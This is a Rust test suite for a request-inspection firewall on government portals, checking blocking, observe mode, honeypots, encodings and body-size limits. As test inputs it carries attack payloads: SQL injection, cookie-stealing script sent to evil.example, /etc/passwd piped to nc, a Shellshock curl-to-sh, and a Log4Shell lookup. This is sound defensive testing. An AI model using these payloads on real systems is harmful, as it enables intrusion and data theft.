//! Attacks in requests: found wherever they stand, blocked or observed as the portal says; honest text passes.

use std::io::Write as _;

use hangu_portals::Kind;
use hangu_tests::outcome::word;
use hangu_tests::{Answer, Client, Pass, Plan, Shared, Zone};
use http::Request;
use serde_json::{Value, json};
use toml::Table;

const PUBLIC: &str = "portal.gov.example";
const EXCHANGE: &str = "exchange.gov.example";
const STAFF: &str = "hr.gov.example";

/// The public portal blocks, the exchange observes, the staff system refuses what it cannot read.
static PASS: Shared = Shared::of(|| {
    let settings = |text: &str| -> Table { text.parse().unwrap() };
    Plan::new()
        .portal("public", |p| {
            p.insert(
                "inspect".into(),
                settings(
                    "body = \"4KiB\"\nover-bound = \"pass\"\nundecodable = \"pass\"\n\
                     honeypot = { paths = [\"/old-admin\"], fields = [\"homepage\"] }",
                )
                .into(),
            );
        })
        .portal("exchange", |p| {
            p.insert("inspect".into(), settings("mode = \"observe\"").into());
        })
        .portal("staff", |p| {
            p.insert(
                "inspect".into(),
                settings("body = \"4KiB\"\nover-bound = \"refuse\"\nundecodable = \"refuse\"")
                    .into(),
            );
        })
        .rules("p, *, *, *, *, /echo/*, ^(GET|POST|PUT)$, true, allow,")
});

/// What each category's attack looks like, before it is encoded for its place.
const ATTACKS: [(&str, &str); 5] = [
    ("sql", "1' UNION SELECT username, password FROM users-- -"),
    (
        "cross-site",
        "<script>fetch('//evil.example/'+document.cookie)</script>",
    ),
    ("traversal", "../../../../../../etc/passwd"),
    ("command", "; cat /etc/passwd | nc 203.0.113.9 4444"),
    ("protocol", "x\r\nSet-Cookie: admin=1"),
];

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Sends a text in a place, marked so that its arrival at a portal can be told.
async fn sent(client: &Client, host: &str, place: &str, mark: &str, text: &str) -> Answer {
    let target = format!("/echo/{mark}");
    match place {
        "query" => {
            client
                .get(host, &format!("{target}?file={}", encoded(text)))
                .await
        }
        "form" => {
            let request =
                Request::post(target).header("content-type", "application/x-www-form-urlencoded");
            client
                .send(host, request, format!("a=1&file={}", encoded(text)))
                .await
        }
        "json" => {
            client
                .post(
                    host,
                    &target,
                    &json!({ "a": 1, "deep": [{ "file": text }] }),
                )
                .await
        }
        "header" => {
            client
                .send(
                    host,
                    Request::get(target).header("referer", encoded(text)),
                    "",
                )
                .await
        }
        _ => panic!("{place}"),
    }
}

fn categories(event: &Value) -> Vec<&str> {
    let findings = event
        .pointer("/unmapped/findings")
        .and_then(Value::as_array);
    findings
        .into_iter()
        .flatten()
        .map(|f| word(f, "/category"))
        .collect()
}

fn arrived(pass: &Pass, kind: Kind, mark: &str) -> bool {
    pass.portal(kind)
        .arrivals()
        .iter()
        .any(|a| a.contains(mark))
}

#[tokio::test(flavor = "multi_thread")]
async fn every_kind_of_attack_is_blocked_in_every_place_over_both_versions() {
    let pass = PASS.get().await;
    let mut missed = Vec::new();
    for place in ["query", "form", "json"] {
        for (category, text) in ATTACKS {
            for http2 in [false, true] {
                let client = pass.stranger(Zone::Internet);
                let client = if http2 { client.http2() } else { client };
                let mark = format!("blocked-{place}-{category}");
                let answer = sent(&client, PUBLIC, place, &mark, text).await;
                let event = pass.event_of(&client).await;
                let found = categories(&event).contains(&category);
                if answer.outcome() != (403, "attack".into())
                    || !found
                    || word(&event, "/status_code") != "attack"
                {
                    missed.push(format!(
                        "{category} in {place}: {:?} {:?}",
                        answer.outcome(),
                        categories(&event)
                    ));
                }
                assert!(!answer.text().contains(text), "a refusal repeats nothing");
                if answer.status == 403 {
                    assert!(!arrived(pass, Kind::Public, &mark), "{mark}");
                }
            }
        }
    }
    assert_eq!(missed, [""; 0]);
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_steps_into_a_trap_is_refused_and_whoever_passes_beside_it_is_not() {
    let pass = PASS.get().await;
    for (path, rule) in [
        ("/echo/trap-1?homepage=&q=homepage", None),
        ("/echo/trap-2?homepage=x", Some("honeypot-field")),
        ("/Old-Admin/login", Some("honeypot-path")),
        ("/old-administration", None),
    ] {
        let client = pass.stranger(Zone::Internet);
        let answer = client.get(PUBLIC, path).await;
        let event = pass.event_of(&client).await;
        let findings = event.pointer("/unmapped/findings");
        let told = rule.is_some_and(|rule| findings.is_some_and(|f| f.to_string().contains(rule)));
        assert_eq!(answer.outcome() == (403, "attack".into()), told, "{path}");
        assert_eq!(told, rule.is_some(), "{path}: {findings:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn attacks_in_header_fields_and_known_scanners_are_blocked() {
    let pass = PASS.get().await;
    for (name, value, category) in [
        (
            "user-agent",
            "sqlmap/1.8.2#stable (https://sqlmap.org)",
            "scanner",
        ),
        (
            "user-agent",
            "() { :;}; /bin/bash -c 'curl http://203.0.113.9/x|sh'",
            "command",
        ),
        (
            "referer",
            "https://a.example/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
            "sql",
        ),
        ("x-api-version", "${jndi:ldap://203.0.113.9/a}", "remote"),
        (
            "cookie",
            "theme=<script>alert(document.cookie)</script>",
            "cross-site",
        ),
    ] {
        let client = pass.stranger(Zone::Internet).header(name, value);
        let answer = client.get(PUBLIC, "/echo/header-attack").await;
        let event = pass.event_of(&client).await;
        assert_eq!(
            answer.outcome(),
            (403, "attack".into()),
            "{name}: {value}: {event:#}"
        );
        assert!(categories(&event).contains(&category), "{value}: {event:#}");
    }
    assert!(!arrived(pass, Kind::Public, "header-attack"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_attack_is_found_under_encodings_and_compression() {
    let pass = PASS.get().await;
    let sql = "1' UNION SELECT password FROM users-- -";
    let twice = encoded(&encoded(sql));
    let client = pass.stranger(Zone::Internet);
    let answer = client.get(PUBLIC, &format!("/echo/coded?a={twice}")).await;
    assert_eq!(answer.outcome(), (403, "attack".into()));

    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    packed
        .write_all(json!({ "file": sql }).to_string().as_bytes())
        .unwrap();
    let request = Request::post("/echo/coded")
        .header("content-type", "application/json")
        .header("content-encoding", "gzip");
    let answer = pass
        .stranger(Zone::Internet)
        .send(PUBLIC, request, packed.finish().unwrap())
        .await;
    assert_eq!(answer.outcome(), (403, "attack".into()));

    let escaped = r#"{"file":"1\u0027 \u0055NION SELECT password FROM users-- -"}"#;
    let request = Request::post("/echo/coded").header("content-type", "application/json");
    let answer = pass
        .stranger(Zone::Internet)
        .send(PUBLIC, request, escaped)
        .await;
    assert_eq!(answer.outcome(), (403, "attack".into()));
    assert!(!arrived(pass, Kind::Public, "/echo/coded"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_portal_that_observes_lets_attacks_through_and_records_them() {
    let pass = PASS.get().await;
    for (category, text) in ATTACKS {
        let client = pass.stranger(Zone::Extranet);
        let mark = format!("observed-{category}");
        let answer = sent(&client, EXCHANGE, "form", &mark, text).await;
        assert_eq!(answer.status, 200, "{category}: {}", answer.text());
        let event = pass.event_of(&client).await;
        assert!(categories(&event).contains(&category), "{event:#}");
        assert_eq!(event["status_id"], 1);
        assert!(arrived(pass, Kind::Exchange, &mark));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn chinese_prose_and_honest_input_pass_everywhere() {
    let pass = PASS.get().await;
    for text in [
        "请问办理身份证需要什么材料？谢谢！",
        "《行政许可法》第三十八条；申请人符合法定条件、标准的，行政机关应当依法作出准予行政许可的书面决定。",
        "我的地址是：北京市西城区复兴门内大街55号（3号楼—2单元）",
        "反映问题：施工噪音扰民 & 夜间作业，希望尽快处理……",
        "公司名称为“华夏数据（北京）有限公司”，注册资本 100,000.00 元 <待核实>",
        "O'Brien and D'Angelo's application; select the second option from the list",
        "C:\\Users\\文档\\申请表.docx",
        "1 + 1 = 2, a < b && b > c",
        "drop me a line or union rep will call -- thanks",
    ] {
        for place in ["query", "form", "json"] {
            let client = pass.stranger(Zone::Internet);
            let answer = sent(&client, PUBLIC, place, "honest", text).await;
            let event = pass.event_of(&client).await;
            assert_eq!(
                answer.status, 200,
                "{text} in {place}: {:#}",
                event["unmapped"]["findings"]
            );
        }
    }
}

/// JSON with an attack at its end, far beyond the bound.
fn long_attack() -> Value {
    json!({ "text": "公告".repeat(4_000), "z": "1' UNION SELECT password FROM users-- -" })
}

#[tokio::test(flavor = "multi_thread")]
async fn a_body_over_the_bound_is_passed_and_marked_or_refused_as_the_portal_says() {
    let pass = PASS.get().await;
    let client = pass.stranger(Zone::Internet);
    let answer = client.post(PUBLIC, "/echo/long", &long_attack()).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    assert_eq!(
        answer.json()["body-length"],
        long_attack().to_string().len()
    );
    let event = pass.event_of(&client).await;
    assert!(event.to_string().contains("body-over-bound"), "{event:#}");

    let client = pass.stranger(Zone::Intranet);
    let answer = client.post(STAFF, "/echo/long", &long_attack()).await;
    assert_eq!(answer.outcome(), (415, "uninspectable-body".into()));
    assert_eq!(
        word(&pass.event_of(&client).await, "/status_code"),
        "uninspectable-body"
    );
    assert!(!arrived(pass, Kind::Staff, "/echo/long"));
    // An attack before the bound is found however long the rest is.
    let early =
        json!({ "a": "1' UNION SELECT password FROM users-- -", "text": "公告".repeat(4_000) });
    let answer = pass
        .stranger(Zone::Internet)
        .post(PUBLIC, "/echo/early", &early)
        .await;
    assert_eq!(answer.outcome(), (403, "attack".into()));
    assert!(!arrived(pass, Kind::Public, "/echo/early"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_body_that_cannot_be_decoded_is_passed_and_marked_or_refused_as_the_portal_says() {
    let pass = PASS.get().await;
    for (coding, body) in [
        ("gzip", "this is no gzip"),
        ("zstd", "(\u{b5}/\u{fd} who reads this"),
        ("compress", "x"),
    ] {
        let request = || {
            Request::post("/echo/odd")
                .header("content-type", "application/json")
                .header("content-encoding", coding)
        };
        let client = pass.stranger(Zone::Internet);
        let answer = client.send(PUBLIC, request(), body).await;
        assert_eq!(answer.status, 200, "{coding}: {}", answer.text());
        let event = pass.event_of(&client).await;
        assert!(
            event.to_string().contains("undecodable-body"),
            "{coding}: {event:#}"
        );

        let client = pass.stranger(Zone::Intranet);
        let answer = client.send(STAFF, request(), body).await;
        assert_eq!(
            answer.outcome(),
            (415, "uninspectable-body".into()),
            "{coding}"
        );
        assert_eq!(
            word(&pass.event_of(&client).await, "/status_code"),
            "uninspectable-body"
        );
    }
    assert!(!arrived(pass, Kind::Staff, "/echo/odd"));
}
